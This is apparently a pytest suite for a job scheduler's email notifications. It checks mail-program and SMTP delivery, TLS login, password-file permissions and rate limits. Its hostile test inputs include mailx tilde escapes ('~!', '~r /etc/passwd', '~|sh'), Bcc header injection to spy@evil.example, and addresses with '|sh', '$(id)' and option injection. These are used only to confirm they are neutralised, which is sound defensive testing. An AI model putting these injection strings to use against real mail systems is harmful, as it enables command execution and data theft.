"""Mails of a real access point to the users of jobs: through a mail program, and to an SMTP server."""

from __future__ import annotations

import asyncio
import base64
import email
import json
import logging
import os
import pwd
import re
import shutil
import socketserver
import ssl
import sys
import tempfile
import threading
from collections.abc import AsyncIterator, Iterator
from pathlib import Path
from typing import Any

import pytest
from slotwise.config import load
from slotwise.config.daemon_account import DaemonAccount
from slotwise.daemon import privileges
from slotwise.errors import ConfigError
from slotwise.mail import outbox
from slotwise.mail.message import Mail
from slotwise.mail.settings import MailSettings
from slotwise.wire.gen import schedd_pb2

from tests.support import host
from tests.support.access_point import RunningAccessPoint
from tests.support.certificates import Authority
from tests.support.execution_point import ExecutionPoint, Script
from tests.support.waiting import LIMIT_S, until

ALWAYS, COMPLETE, ERROR, START = 1, 2, 3, 4
#: Writes its words, environment and input beside itself, as one file for each mail.
PROGRAM = """#!{python}
import json, os, sys, time
text = sys.stdin.read()
name = os.path.join({box!r}, "%d-%d" % (time.time_ns(), os.getpid()))
with open(name + ".part", "w") as file:
    json.dump({{"words": sys.argv[1:], "text": text, "environment": dict(os.environ)}}, file)
os.rename(name + ".part", name + ".mail")
"""


class MailProgram:
    """A program that keeps what it is to send."""

    def __init__(self, root: Path, text: str = PROGRAM) -> None:
        self.box = root / "box"
        self.box.mkdir()
        self.path = root / "fake-mail"
        self.path.write_text(text.format(python=sys.executable, box=str(self.box)))
        self.path.chmod(0o755)

    def mails(self) -> list[dict[str, Any]]:
        return [json.loads(file.read_text()) for file in sorted(self.box.glob("*.mail"))]

    async def until(self, count: int) -> list[dict[str, Any]]:
        await until(lambda: len(self.mails()) >= count, f"{count} mails are sent")
        return self.mails()


class SmtpServer(socketserver.ThreadingTCPServer):
    """An SMTP server that keeps the mails that it takes."""

    daemon_threads = True

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), SmtpSession)
        self.mails: list[tuple[str, list[str], str]] = []
        #: Recipients that it does not take.
        self.refused: set[str] = set()
        #: The only login that it takes, if it wants one, and the encryption of its connections.
        self.login = ""
        self.context: ssl.SSLContext | None = None
        threading.Thread(target=self.serve_forever, daemon=True).start()

    @property
    def place(self) -> str:
        return f"127.0.0.1:{self.server_address[1]}"


class SmtpSession(socketserver.StreamRequestHandler):
    server: SmtpServer

    def handle(self) -> None:
        sender, to, logged_in = "", [], False
        self.say("220 here")
        while line := self.rfile.readline().decode():
            word = line.strip().split(":")[0].upper()
            address = (re.findall("<(.*?)>", line) or [""])[0]
            if word.startswith("EHLO"):
                self.say("250-here\r\n250-STARTTLS\r\n250 AUTH PLAIN" if self.server.login else "250 here")
            elif word == "STARTTLS" and self.server.context is not None:
                self.say("220 go on")
                self.request = self.server.context.wrap_socket(self.request, server_side=True)
                self.rfile, self.wfile = self.request.makefile("rb"), self.request.makefile("wb", 0)
            elif word.startswith("AUTH PLAIN"):
                given = base64.b64decode(line.split()[2]).decode()
                is_right = given == f"\0{self.server.login}"
                logged_in = logged_in or is_right
                self.say("235 welcome" if is_right else "535 no such user")
            elif word == "MAIL FROM" and self.server.login and not logged_in:
                self.say("530 log in first")
            elif word == "MAIL FROM":
                sender = address
                self.say("250 ok")
            elif word == "RCPT TO" and address in self.server.refused:
                self.say("550 unknown")
            elif word == "RCPT TO":
                to.append(address)
                self.say("250 ok")
            elif word == "DATA":
                self.say("354 go on")
                lines = []
                while (text := self.rfile.readline().decode()) not in (".\r\n", ""):
                    lines.append(text.removeprefix("."))
                self.server.mails.append((sender, to, "".join(lines)))
                self.say("250 taken")
            elif word == "QUIT":
                self.say("221 bye")
                return
            else:
                self.say("250 ok")

    def finish(self) -> None:
        super().finish()
        self.request.close()  # the server closes the plain socket alone

    def say(self, line: str) -> None:
        self.wfile.write(f"{line}\r\n".encode())


@pytest.fixture
def program(tmp_path: Path) -> MailProgram:
    return MailProgram(tmp_path)


@pytest.fixture
def server() -> Iterator[SmtpServer]:
    with SmtpServer() as running:
        yield running
        running.shutdown()


class World:
    """An access point that the test starts, and its execution point."""

    def __init__(self, root: Path) -> None:
        self.schedd = RunningAccessPoint(root / "pool")
        self._socket = root / "ep.sock"
        self.point: ExecutionPoint

    async def start(self, **knobs: str) -> None:
        await self.schedd.start(**{"CONDOR_ADMIN": "admin@example.org", **knobs})
        self.point = ExecutionPoint(self._socket, self.schedd.daemon_token)
        await self.point.start()

    async def run(self, count: int = 1, **attributes: Any) -> int:
        cluster = await self.schedd.submit(count, **attributes)
        await self.schedd.negotiate(self.point.address)
        return cluster


@pytest.fixture
async def world(tmp_path: Path) -> AsyncIterator[World]:
    made = World(tmp_path)
    yield made
    await made.schedd.stop()
    await made.point.stop()


async def test_mail_gets_what_htcondor_gives_it(
    world: World, program: MailProgram, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("SECRET_OF_THE_DAEMON", "x")
    await world.start(SENDMAIL="", MAIL=str(program.path), MAIL_FROM="pool@example.org", EMAIL_DOMAIN="example.org")
    world.point.script = lambda ad: Script(exit_code=3)
    cluster = await world.run(JobNotification=COMPLETE, Arguments="1 2")
    (mail,) = await program.until(1)
    subject = f"[Condor] Condor Job {cluster}.0"
    assert mail["words"] == ["-s", subject, "-r", "pool@example.org", f"{world.schedd.owner}@example.org"]
    text = mail["text"]
    assert text.startswith('This is an automated email from the Condor system\non machine "here".  Do not reply.\n\n')
    assert f"Condor job {cluster}.0\n\t/bin/true 1 2\n\tsubmitted from directory {world.schedd.home.root}\n" in text
    assert "exited normally with status 3\n" in text and "Run Bytes Received By Job" in text
    assert "local HTCondor administrator: admin@example.org\n" in text
    assert set(mail["environment"]) <= {"PATH", "LANG", "LC_CTYPE", "LOGNAME", "USER", "PWD", "SHLVL", "_"}


async def test_sendmail_is_preferred_and_gets_headers(world: World, program: MailProgram) -> None:
    await world.start(SENDMAIL=str(program.path), MAIL="/bin/false")
    await world.run(JobNotification=ALWAYS, NotifyUser="ann@x.org,bob@x.org")
    (mail,) = await program.until(1)
    assert mail["words"] == ["-t", "-i"]
    assert "To: ann@x.org, bob@x.org\n" in mail["text"].partition("\n\n")[0] + "\n"


async def test_an_smtp_server_takes_the_mail(world: World, server: SmtpServer, program: MailProgram) -> None:
    await world.start(SLOTWISE_SMTP_SERVER=server.place, SENDMAIL=str(program.path))
    server.refused = {"gone@x.org"}
    await world.run(JobNotification=COMPLETE, NotifyUser="ann@x.org gone@x.org", EmailAttributes="Cmd")

    async def taken() -> bool:
        return bool(server.mails)

    await world.schedd.until(taken)
    ((sender, to, text),) = server.mails
    assert (sender, to) == ("condor@here", ["ann@x.org"])
    head, _, body = text.partition("\r\n\r\n")
    assert "From: condor@here" in head and "Subject: [Condor] Condor Job " in head
    assert 'Cmd = "/bin/true"\r\n' in body and not program.mails()


async def test_an_smtp_server_may_want_a_login(
    world: World, server: SmtpServer, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    """Over TLS, and with a password that nobody else can read."""
    authority = Authority(tmp_path / "ca")
    certificate = authority.issue("mail")
    monkeypatch.setenv("SSL_CERT_FILE", str(authority.directory / "ca.pem"))
    server.context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    server.context.load_cert_chain(certificate, certificate.with_suffix(".key"))
    server.login = "pool\0secret words"
    password = tmp_path / "password"
    password.write_text("secret words\n")
    password.chmod(0o644)
    knobs = {"SLOTWISE_SMTP_USER": "pool", "SLOTWISE_SMTP_PASSWORD_FILE": str(password)}
    await world.start(SLOTWISE_SMTP_SERVER=server.place, **knobs)
    await world.run(JobNotification=COMPLETE, NotifyUser="ann@x.org")

    async def refused() -> bool:
        return "others may read" in caplog.text

    await world.schedd.until(refused)
    assert not server.mails
    password.chmod(0o600)
    await world.run(JobNotification=COMPLETE, NotifyUser="ann@x.org")

    async def taken() -> bool:
        return bool(server.mails)

    await world.schedd.until(taken)
    assert server.mails[0][1] == ["ann@x.org"]
    assert "secret" not in caplog.text


def test_a_password_does_not_leave_the_host_in_the_clear(tmp_path: Path) -> None:
    def settings(text: str) -> MailSettings:
        (tmp_path / "config").write_text(f"SLOTWISE_SMTP_SERVER = mail.example.org\n{text}")
        return MailSettings.of(load(str(tmp_path / "config"), env={}), "here")

    with_file = "SLOTWISE_SMTP_USER = pool\nSLOTWISE_SMTP_PASSWORD_FILE = /p\n"
    assert (settings("").smtp_tls, settings(with_file).smtp_tls) == ("none", "starttls")
    assert settings(f"{with_file}SLOTWISE_SMTP_TLS = TLS\n").smtp_tls == "tls"
    for text, words in (
        (f"{with_file}SLOTWISE_SMTP_TLS = NONE\n", "in the clear"),
        ("SLOTWISE_SMTP_USER = pool\n", "has no password"),
        ("SLOTWISE_SMTP_TLS = perhaps\n", "is not a kind of encryption"),
    ):
        with pytest.raises(ConfigError, match=words):
            settings(text)


async def test_jobs_that_do_not_ask_get_no_mail(world: World, program: MailProgram) -> None:
    await world.start(SENDMAIL="", MAIL=str(program.path))
    await world.run(2)
    await world.run(2, JobNotification=0)
    await world.run(2, JobNotification=ERROR)
    await world.schedd.until_gone()
    last = await world.run(JobNotification=COMPLETE)
    mails = await program.until(1)  # they are sent in order
    assert [mail["words"][1] for mail in mails] == [f"[Condor] Condor Job {last}.0"]


async def test_a_hold_by_the_execution_point_and_the_start_of_a_job_are_mailed(
    world: World, program: MailProgram
) -> None:
    await world.start(SENDMAIL="", MAIL=str(program.path))
    world.point.script = lambda ad: Script(how=schedd_pb2.RunEnded.HELD, reason="No such file", reason_code=14)
    held = await world.run(JobNotification=ERROR)
    (mail,) = await program.until(1)
    assert mail["words"][1] == f"[Condor] Condor Job {held}.0 put on hold"
    assert "\nis being put on hold.\n\nError from slot1_1@ep: No such file\n" in mail["text"]
    world.point.script = lambda ad: Script()
    started = await world.run(JobNotification=START)
    found = await program.until(2)
    assert found[1]["words"][1] == f"[Condor] Condor Job {started}.0" and "\nhas started on " in found[1]["text"]


async def test_holds_and_removals_by_users_are_not_mailed(world: World, program: MailProgram) -> None:
    await world.start(SENDMAIL="", MAIL=str(program.path))
    world.point.script = lambda ad: Script(until_killed=True)
    cluster = await world.run(2, JobNotification=ALWAYS)

    async def running() -> bool:
        return [job["JobStatus"] for job in await world.schedd.jobs()] == [2, 2]

    await world.schedd.until(running)
    await world.schedd.act("HOLD", "ProcId == 0")
    await world.schedd.act("REMOVE", "ProcId == 1")

    async def over() -> bool:
        return [(job["ProcId"], job["JobStatus"], "RemoteHost" in job) for job in await world.schedd.jobs()] == [
            (0, 5, False)
        ]

    await world.schedd.until(over)
    world.point.script = lambda ad: Script()
    last = await world.run(JobNotification=ALWAYS)
    assert last > cluster
    assert [mail["words"][1] for mail in await program.until(1)] == [f"[Condor] Condor Job {last}.0"]


async def test_policies_that_hold_or_remove_a_running_job_are_mailed(world: World, program: MailProgram) -> None:
    await world.start(SENDMAIL="", MAIL=str(program.path), PERIODIC_EXPR_INTERVAL="1")
    world.point.script = lambda ad: Script(until_killed=True)
    held = await world.run(JobNotification=ALWAYS, PeriodicHold=True)
    gone = await world.run(JobNotification=ALWAYS, PeriodicRemove=True)
    subjects = {mail["words"][1] for mail in await program.until(2)}
    assert subjects == {f"[Condor] Condor Job {held}.0 put on hold", f"[Condor] Condor Job {gone}.0 removed"}


async def test_a_hostile_address_gets_no_mail_and_the_job_completes(
    world: World, program: MailProgram, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.INFO)
    await world.start(SENDMAIL="", MAIL=str(program.path))
    evil = await world.run(JobNotification=COMPLETE, NotifyUser="-X/tmp/log@x.org,|id,a@b\nBcc:c@d")
    await world.schedd.until_gone()
    await world.run(JobNotification=COMPLETE)
    assert len(await program.until(1)) == 1
    (line,) = [r.getMessage() for r in caplog.records if "not an address" in r.getMessage()]
    assert line.startswith(f"{evil}.0: no mail is sent to -X/tmp/log@x.org, ") and "\n" not in line


#: The mail program of Debian, with a sendmail that writes down its words and its input in place of the host's.
MAILX = """#!/bin/sh
cd {box} && HOME={box} exec bsd-mailx "$@"
"""
SENDMAIL = """#!/bin/sh
set -- "$@"
for word; do echo "word $word"; done > {box}/words.$$
cat > {box}/text.$$ && mv {box}/text.$$ {box}/$$.sent
"""
#: What mail programs take for commands, headers, options and the end of a mail, in any text of a user's.
HOSTILE = (
    "~!touch escaped\n~r /etc/passwd\n~b spy@evil.example\nBcc: spy@evil.example\n\n.\n~|sh\r\nCc: spy@evil.example\r\n"
)


@host.needs(host.programs("bsd-mailx"))
@pytest.mark.parametrize(
    "addresses",
    [
        "ann@x.org,-oQ/tmp@x.org,|sh,/tmp/escaped,+escaped,~/escaped",
        "ann@x.org -bs@x.org -s bob@x.org\nBcc:spy@evil.example",
        "ann@x.org,~!sh,:include:/etc/passwd,bob@x.org;spy@evil.example,%root,`id`@x.org,$(id)@x.org",
    ],
)
async def test_a_real_mail_program_does_nothing_of_what_users_write(
    world: World, tmp_path: Path, addresses: str
) -> None:
    box = tmp_path / "box"
    box.mkdir()
    for name, text in (("mailx", MAILX), ("sendmail", SENDMAIL)):
        (tmp_path / name).write_text(text.format(box=box))
        (tmp_path / name).chmod(0o755)
    (box / ".mailrc").write_text(f"set sendmail={tmp_path}/sendmail\n")
    await world.start(SENDMAIL="", MAIL=str(tmp_path / "mailx"), MAIL_FROM="pool@x.org")
    cluster = await world.run(
        JobNotification=COMPLETE, NotifyUser=addresses, Cmd=f"/bin/{HOSTILE}", Args=HOSTILE,
        JobBatchName=HOSTILE, EmailAttributes=f"Evil,JobBatchName,{HOSTILE}", Evil=HOSTILE, Iwd=str(box),
    )  # fmt: skip
    await until(lambda: list(box.glob("*.sent")), "the mail is sent")
    (sent,) = box.glob("*.sent")
    found = email.message_from_bytes(sent.read_bytes())
    (words,) = box.glob("words.*")
    assert words.read_text().splitlines() == ["word -i", "word -t", "word -f", "word pool@x.org"]
    assert {name.lower() for name in found} <= {
        "from", "to", "subject", "mime-version", "content-type", "content-transfer-encoding",
    }  # fmt: skip
    assert found["To"] == "ann@x.org"
    assert found["Subject"] == f"[Condor] Condor Job {cluster}.0"
    body = str(found.get_payload())
    assert "~!touch escaped" in body and "Questions about this message" in body, "the texts are there, as texts"
    assert "root:x:0" not in body
    assert sorted(path.name for path in box.iterdir()) == sorted([".mailrc", sent.name, words.name])


@pytest.mark.parametrize(
    ("text", "patience_s", "reason"),
    [
        ("#!/bin/sh\necho no relay; exit 7\n", LIMIT_S, "exit status 7: no relay"),
        ("#!/bin/sh\nexec sleep 1000\n", 0.5, "took longer than"),
        (None, LIMIT_S, "no mail program: neither SENDMAIL"),
    ],
)
async def test_a_mail_that_cannot_be_sent_is_logged_and_the_job_completes(
    world: World,
    tmp_path: Path,
    text: str | None,
    patience_s: float,
    reason: str,
    caplog: pytest.LogCaptureFixture,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(outbox, "_PATIENCE_S", patience_s)
    path = MailProgram(tmp_path, text).path if text else tmp_path / "missing"
    await world.start(SENDMAIL="", MAIL=str(path))
    cluster = await world.run(JobNotification=COMPLETE)
    await world.schedd.until_gone()

    def lines() -> list[str]:
        return [r.getMessage() for r in caplog.records if "could not send mail" in r.getMessage()]

    async def logged() -> bool:
        return bool(lines())

    await world.schedd.until(logged)
    (line,) = lines()
    assert f"Condor Job {cluster}.0" in line
    assert reason in line


async def test_the_rate_of_mails_is_bounded(world: World, program: MailProgram) -> None:
    await world.start(SENDMAIL="", MAIL=str(program.path), SLOTWISE_MAX_MAILS_PER_MINUTE="3")
    await world.run(8, JobNotification=COMPLETE)
    await world.schedd.until_gone()
    await program.until(3)
    waiting = world.schedd.point.outbox._waiting

    async def rest() -> bool:
        return len(waiting) == 5

    await world.schedd.until(rest)
    assert len(program.mails()) == 3


async def test_what_waits_is_bounded(
    world: World, program: MailProgram, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    monkeypatch.setattr(outbox, "_WAITING_MOST", 2)
    await world.start(SENDMAIL="", MAIL=str(program.path), SLOTWISE_MAX_MAILS_PER_MINUTE="1")
    await world.run(10, JobNotification=COMPLETE)
    await world.schedd.until_gone()

    async def told() -> bool:
        return any("mails are discarded: 2 wait" in r.getMessage() for r in caplog.records)

    await world.schedd.until(told)
    assert len(world.schedd.point.outbox._waiting) == 2


async def test_a_server_that_does_not_answer_holds_nothing_up(
    world: World, caplog: pytest.LogCaptureFixture, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(outbox, "_PATIENCE_S", 1.5)
    with socketserver.TCPServer(("127.0.0.1", 0), socketserver.BaseRequestHandler) as silent:  # accepts, says nothing
        await world.start(SLOTWISE_SMTP_SERVER=f"127.0.0.1:{silent.server_address[1]}")
        await world.run(JobNotification=COMPLETE)
        await world.schedd.until_gone()

        async def logged() -> bool:
            return any("could not send mail" in r.getMessage() for r in caplog.records)

        await world.schedd.until(logged)


@host.needs(host.root)
async def test_mail_programs_run_as_the_daemons_account(monkeypatch: pytest.MonkeyPatch) -> None:
    nobody = pwd.getpwnam("nobody")
    monkeypatch.setattr(
        privileges, "_account", DaemonAccount("nobody", nobody.pw_uid, nobody.pw_gid, (nobody.pw_gid,), named=True)
    )
    root = Path(tempfile.mkdtemp())
    try:
        root.chmod(0o755)
        box, path = root / "box", root / "fake-mail"
        box.mkdir()
        shutil.chown(box, "nobody")
        who = 'echo "$USER"; id -u; id -g; id -G; cat'
        path.write_text(f"#!/bin/sh\n{{ {who}; }} > {box}/part && mv {box}/part {box}/mail\n")
        path.chmod(0o755)
        sending = outbox.Outbox(os.environ)
        sending.settings = MailSettings(host="here", program=str(path))
        task = asyncio.create_task(sending.run())
        sending.post(Mail(("ann@x.org",), "[Condor] s", "text\n"))
        await until((box / "mail").exists, "the mail is sent")
        task.cancel()
        await asyncio.gather(task, return_exceptions=True)
        uid, gid = nobody.pw_uid, nobody.pw_gid
        assert (box / "mail").read_text() == f"nobody\n{uid}\n{gid}\n{gid}\ntext\n"
    finally:
        shutil.rmtree(root)
